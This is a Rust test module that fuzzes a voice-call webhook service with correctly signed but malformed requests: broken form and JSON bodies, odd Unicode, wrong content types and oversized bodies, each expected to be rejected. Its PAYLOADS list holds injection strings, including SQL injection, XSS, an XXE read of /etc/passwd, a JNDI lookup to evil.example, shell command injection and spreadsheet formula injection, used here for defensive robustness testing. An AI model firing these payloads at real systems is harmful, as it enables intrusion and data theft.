//! Rightly signed, and still nothing that can be read: broken bodies, wrong types, odd characters.

use ringback::channels::voice::provider::Provider;

use super::super::handset::{Draft, Handset};
use super::super::house::{NUMBER, ORIGIN};
use super::{Bad, Scene};

/// Malformed, no number of ours, or a type that is not taken (which Twilio's signature does not cover either).
const UNREAD: &[u16] = &[400, 401, 404, 415];

pub fn requests(scene: &Scene<'_>) -> Vec<Bad> {
    let mut all = match scene.provider {
        Provider::Twilio | Provider::SignalWire | Provider::Telnyx => forms(scene),
        Provider::Jambonz | Provider::Vonage => documents(scene),
    };
    all.extend(payloads(scene));
    all.extend(types(scene));
    all.extend(sizes(scene));
    all
}

fn begin(scene: &Scene<'_>) -> String {
    format!("{ORIGIN}/hooks/voice/{}", scene.provider.name())
}

fn forms(scene: &Scene<'_>) -> Vec<Bad> {
    let to = "To=%2B60327797000";
    let bodies = [
        ("empty", String::new()),
        ("a blank", " ".to_owned()),
        ("no call", to.to_owned()),
        ("an empty call", format!("CallSid=&{to}")),
        ("a blank call", format!("CallSid=+&{to}")),
        ("no number", "CallSid=CA1".to_owned()),
        ("an empty number", "CallSid=CA1&To=".to_owned()),
        ("another number", "CallSid=CA1&To=%2B60327797001".to_owned()),
        ("a number with letters", "CallSid=CA1&To=%2B6032779700o".to_owned()),
        ("a short number", "CallSid=CA1&To=6".to_owned()),
        ("a long number", format!("CallSid=CA1&To={}", "6".repeat(40))),
        ("a client", "CallSid=CA1&To=client%3Aada".to_owned()),
        ("two calls", format!("CallSid=CA1&CallSid=CA2&{to}")),
        ("the same call twice", format!("CallSid=CA1&CallSid=CA1&{to}")),
        ("two numbers", format!("CallSid=CA1&{to}&{to}")),
        ("keys twice", format!("CallSid=CA1&{to}&Digits=1&Digits=2")),
        ("other letters", format!("callsid=CA1&{to}")),
        ("a list", format!("CallSid[]=CA1&{to}")),
        ("semicolons", "CallSid=CA1;To=%2B60327797000".to_owned()),
        ("no equals sign", format!("CallSid&{to}")),
        ("only separators", "&&&&====".to_owned()),
        ("a broken escape", format!("CallSid=%zz&{to}")),
        ("half an escape", format!("CallSid=CA%4&{to}")),
        ("NUL", format!("CallSid=CA%00&{to}")),
        ("a line end", format!("CallSid=CA1%0d%0aX: y&{to}")),
        ("overlong UTF-8", format!("CallSid=%c0%af&{to}")),
        ("half a character", format!("CallSid=%e5%ad&{to}")),
        ("a long call", format!("CallSid={}&{to}", "A".repeat(129))),
        ("a very long call", format!("CallSid={}&{to}", "A".repeat(60_000))),
        ("JSON", r#"{"CallSid":"CA1","To":"+60327797000"}"#.to_owned()),
        ("XML", "<Response><CallSid>CA1</CallSid></Response>".to_owned()),
        ("multipart", "--x\r\nContent-Disposition: form-data; name=\"CallSid\"\r\n\r\nCA1\r\n--x--".to_owned()),
        ("many fields and no call", (0..2_000).map(|n| format!("f{n}=1&")).collect::<String>() + to),
    ];
    let bad = |(what, body): &(&str, String)| {
        scene.bad("form", *what, &Draft { provider: scene.provider, url: begin(scene), body: body.clone() }, UNREAD)
    };
    bodies.iter().map(bad).collect()
}

fn documents(scene: &Scene<'_>) -> Vec<Bad> {
    let call = if scene.provider == Provider::Jambonz { "call_sid" } else { "conversation_uuid" };
    let (good, rest) = (format!("\"{call}\":\"c1\""), format!("\"from\":\"+60123456789\",\"to\":\"{NUMBER}\""));
    let with = |field: &str| format!("{{{field},{rest}}}");
    let mut bodies = vec![
        ("empty", String::new()),
        ("a blank", " ".to_owned()),
        ("null", "null".to_owned()),
        ("true", "true".to_owned()),
        ("a number", "1".to_owned()),
        ("a text", "\"c1\"".to_owned()),
        ("a list", format!("[{}]", with(&good))),
        ("the fields as a list", format!("[\"c1\",\"c1\",\"+60123456789\",\"{NUMBER}\",null,null,null,null]")),
        ("an empty object", "{}".to_owned()),
        ("no call", format!("{{{rest}}}")),
        ("an empty call", with(&format!("\"{call}\":\"\""))),
        ("a null call", with(&format!("\"{call}\":null"))),
        ("a number as call", with(&format!("\"{call}\":9007199254740993"))),
        ("a list as call", with(&format!("\"{call}\":[\"c1\"]"))),
        ("an object as call", with(&format!("\"{call}\":{{\"a\":1}}"))),
        ("two calls", with(&format!("{good},{good}"))),
        ("no number", format!("{{{good}}}")),
        ("a null number", format!("{{{good},\"to\":null}}")),
        ("a number as number", format!("{{{good},\"to\":60327797000}}")),
        ("an empty number", format!("{{{good},\"to\":\"\"}}")),
        ("another number", format!("{{{good},\"to\":\"+60327797001\"}}")),
        ("a person as number", format!("{{{good},\"to\":\"sip:ada@pbx.example\"}}")),
        ("two numbers", format!("{{{good},{rest},{rest}}}")),
        ("a list as sender", format!("{{{good},\"from\":[],\"to\":\"{NUMBER}\"}}")),
        ("NaN", with(&format!("{good},\"x\":NaN"))),
        ("Infinity", with(&format!("{good},\"x\":Infinity"))),
        ("a lone surrogate", with(&format!("\"{call}\":\"\\ud800\""))),
        ("an unknown escape", with(&format!("\"{call}\":\"\\x41\""))),
        ("a raw line end", with(&format!("\"{call}\":\"c\n1\""))),
        ("a raw NUL", with(&format!("\"{call}\":\"c\01\""))),
        ("a mark of byte order", format!("\u{feff}{}", with(&good))),
        ("a comma at the end", with(&good).replace('}', ",}")),
        ("not closed", with(&good).replace('}', "")),
        ("closed twice", format!("{}}}", with(&good))),
        ("two documents", format!("{}{}", with(&good), with(&good))),
        ("a comment", format!("/* x */{}", with(&good))),
        ("single quotes", with(&good).replace('"', "'")),
        ("no quotes", with(&good).replace('"', "")),
        ("leading zeros", with(&format!("{good},\"x\":01"))),
        ("deep lists", format!("{{{good},\"to\":{}{}}}", "[".repeat(10_000), "]".repeat(10_000))),
        ("deep objects", "{\"a\":".repeat(5_000) + "1" + &"}".repeat(5_000)),
        ("a long call", with(&format!("\"{call}\":\"{}\"", "A".repeat(129)))),
        ("a very long call", with(&format!("\"{call}\":\"{}\"", "A".repeat(60_000)))),
        ("a form", "call_sid=c1&to=%2B60327797000".to_owned()),
    ];
    let keys = if scene.provider == Provider::Jambonz { "\"digits\":" } else { "\"dtmf\":" };
    for odd in ["1", "true", "[]", "[\"1\"]", "{\"digits\":1}", "{\"digits\":[]}"] {
        bodies.push(("keys of another kind", with(&format!("{good},{keys}{odd}"))));
    }
    let bad = |(what, body): &(&str, String)| {
        scene.bad("document", *what, &Draft { provider: scene.provider, url: begin(scene), body: body.clone() }, UNREAD)
    };
    bodies.iter().map(bad).collect()
}

/// What people and machines put where it does not belong.
const PAYLOADS: [&str; 30] = [
    "' OR '1'='1",
    "'; DROP TABLE calls; --",
    "\" OR \"\"=\"",
    "*)(uid=*))(|(uid=*",
    "<script>alert(1)</script>",
    "</Say><Hangup/><Say>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "$(id)",
    "`id`",
    "|id",
    "a\r\nSet-Cookie: a=b",
    "a\u{0}b",
    "\u{1b}[31m",
    "学生",
    "ᴬᴰᴬ",
    "１２３４",
    "٣٤٥",
    "a\u{202e}b",
    "a\u{200b}b",
    "e\u{301}\u{301}\u{301}",
    "😀",
    "\u{feff}1",
    "..\\..\\windows",
    "=cmd|'/c calc'!A1",
    "-1 UNION SELECT",
    "true && false",
    "a b c",
];

fn payloads(scene: &Scene<'_>) -> Vec<Bad> {
    let mut all = Vec::new();
    for payload in PAYLOADS {
        let as_call = Handset::new(scene.provider, payload).begins();
        all.push(scene.bad("payload as call", payload, &as_call, UNREAD));
        let mut dialled = Handset::new(scene.provider, "call-new");
        dialled.to = payload.to_owned();
        all.push(scene.bad("payload as number", payload, &dialled.begins(), UNREAD));
        let keys = scene.caller.keyed(&scene.own, Some(payload));
        all.push(scene.bad("payload as keys", payload, &keys, UNREAD));
    }
    all
}

fn types(scene: &Scene<'_>) -> Vec<Bad> {
    let form = !matches!(scene.provider, Provider::Jambonz | Provider::Vonage);
    let swapped = if form { "application/jsonx" } else { "application/x-www-form-urlencoded" };
    let names = [
        "text/plain",
        "text/html",
        "text/xml",
        "multipart/form-data; boundary=x",
        "application/xml",
        "application/octet-stream",
        "application/x-www-form-urlencode",
        "application/json+x",
        "text/json",
        "*/*",
        "x",
        "",
        ";",
        swapped,
    ];
    let mut all = Vec::new();
    for draft in &scene.genuine() {
        for name in names {
            let mut bad = scene.bad("type", name, draft, UNREAD);
            bad.headers[0].1 = name.to_owned();
            all.push(bad);
        }
        let mut none = scene.bad("type", "none", draft, UNREAD);
        none.headers.remove(0);
        all.push(none);
        for encoding in ["gzip", "deflate", "br", "zstd", "compress", "gzip, gzip", "x", "identity"] {
            let mut bad = scene.bad("encoding", encoding, draft, UNREAD);
            bad.headers.push(("content-encoding".to_owned(), encoding.to_owned()));
            all.push(bad);
        }
    }
    all
}

fn sizes(scene: &Scene<'_>) -> Vec<Bad> {
    let [draft, turn] = scene.genuine();
    let mut all = Vec::new();
    for (what, draft) in [("a call", &draft), ("a turn", &turn)] {
        let mut bad = scene.bad("size", format!("{what} of more than 64 KiB"), draft, &[413]);
        bad.body = vec![b'A'; 64 * 1024 + 1];
        all.push(bad);
        let mut announced = scene.bad("size", format!("{what} announced as huge"), draft, &[413]);
        announced.headers.push(("content-length".to_owned(), "999999999".to_owned()));
        all.push(announced);
    }
    all
}
